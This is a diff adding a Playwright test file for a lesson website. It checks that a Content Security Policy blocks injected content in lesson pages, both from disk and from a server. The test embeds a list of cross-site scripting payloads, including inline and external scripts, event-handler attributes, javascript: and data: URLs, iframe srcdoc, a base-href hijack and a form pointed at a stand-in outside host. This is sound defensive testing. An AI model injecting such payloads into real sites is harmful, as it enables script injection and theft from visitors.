@@ -1,0 +1,90 @@
+"""Whatever a lesson holds, its page runs nothing but the site's scripts, from disk and from a server."""
+
+import pytest
+from conftest import COURSE, DEMO, HOSTILE, LESSON, html_files, until
+
+# What would run or load if escaping had let it through.
+SMUGGLED = """
+<script>window.ran = 'inline'</script>
+<script src="https://elsewhere.invalid/x.js"></script>
+<script src="data:text/javascript,window.ran='data'"></script>
+<img src="missing.png" onerror="window.ran = 'handler'">
+<img src="https://elsewhere.invalid/x.png">
+<svg onload="window.ran = 'svg'"></svg>
+<details open ontoggle="window.ran = 'toggle'"><summary>x</summary></details>
+<iframe src="javascript:parent.ran = 'frame'"></iframe>
+<iframe srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>
+<object data="https://elsewhere.invalid/x"></object>
+<link rel="stylesheet" href="https://elsewhere.invalid/x.css">
+<style>@import url(https://elsewhere.invalid/y.css); main { display: none }</style>
+<base href="https://elsewhere.invalid/">
+<form id="smuggled" action="https://elsewhere.invalid/"><input name="q"></form>
+<a id="address" href="javascript:window.ran = 'address'">x</a>
+<p style="background: url(https://elsewhere.invalid/z.png)">x</p>
+"""
+
+
+def test_hostile_lessons_run_nothing(browser):
+    files = html_files(HOSTILE)
+    assert len(files) > 50
+    page = browser.new_page()
+    problems, requests = [], []
+    page.on("console", lambda message: problems.append(message.text))
+    page.on("pageerror", lambda error: problems.append(str(error)))
+    page.on("dialog", lambda dialog: (problems.append(dialog.message), dialog.dismiss()))
+    page.on("request", lambda request: requests.append(request.url))
+    for file in files:
+        page.goto(file.as_uri())
+        # Everything that could be set off by a pointer or the keyboard.
+        page.evaluate("""document.querySelectorAll('main *:not(a)').forEach(element =>
+            ['mouseover', 'focus', 'click', 'toggle', 'load', 'error'].forEach(name => element.dispatchEvent(new Event(name))))""")
+        links = page.eval_on_selector_all(
+            "[href], [src], [action]", """all => all.flatMap(one =>
+                ['href', 'src', 'action'].map(name => one.getAttribute(name) || ''))""")
+        assert [link for link in links if link.split(":")[0].strip().lower() in ("javascript", "data", "vbscript")] == [], file.name
+        assert page.locator("script").count() == 1 and page.locator("main").is_visible(), file.name
+    page.close()
+    assert problems == []
+    assert [url for url in requests if not url.startswith("file:")] == []
+
+
+@pytest.fixture
+def smuggled():
+    """The folder of a site whose lesson has it all in its text."""
+    folder = DEMO / "smuggled"
+    folder.mkdir(exist_ok=True)
+    if not (folder / "assets").exists():
+        (folder / "assets").symlink_to(COURSE / "assets")
+    text = LESSON.read_text()
+    assert text.count("<article>") == 1
+    (folder / "lesson.html").write_text(text.replace("<article>", "<article>" + SMUGGLED))
+    return folder
+
+
+@pytest.mark.parametrize("where", ["disk", "server"])
+def test_the_policy_stops_what_escaping_would_have_missed(visit, served, smuggled, where):
+    reached = []
+
+    def elsewhere(route):
+        reached.append(route.request.url)
+        route.abort()
+
+    page = visit("about:blank", expecting_problems=True)
+    page.route("**/elsewhere.invalid/**", elsewhere)
+    page.goto((smuggled / "lesson.html").as_uri() if where == "disk" else f"{served}/smuggled/lesson.html")
+    page.evaluate("document.getElementById('address').click(); document.getElementById('smuggled').requestSubmit()")
+    page.wait_for_timeout(100)
+    assert page.evaluate("window.ran") is None
+    assert reached == []
+    assert page.locator("main").is_visible()
+    assert page.evaluate("document.baseURI") == page.url
+    assert sum("Content Security Policy" in problem for problem in page.watch.problems) >= 10
+    # The page's own files came all the same.
+    assert page.locator("button.search").is_visible() and page.evaluate("document.fonts.check('16px KaTeX_Main')")
+
+
+def test_what_is_smuggled_would_run_without_the_policy(visit, smuggled):
+    page = visit("about:blank", expecting_problems=True, bypass_csp=True)
+    page.route("**/elsewhere.invalid/**", lambda route: route.abort())
+    page.goto((smuggled / "lesson.html").as_uri())
+    until(page, "window.ran !== undefined")
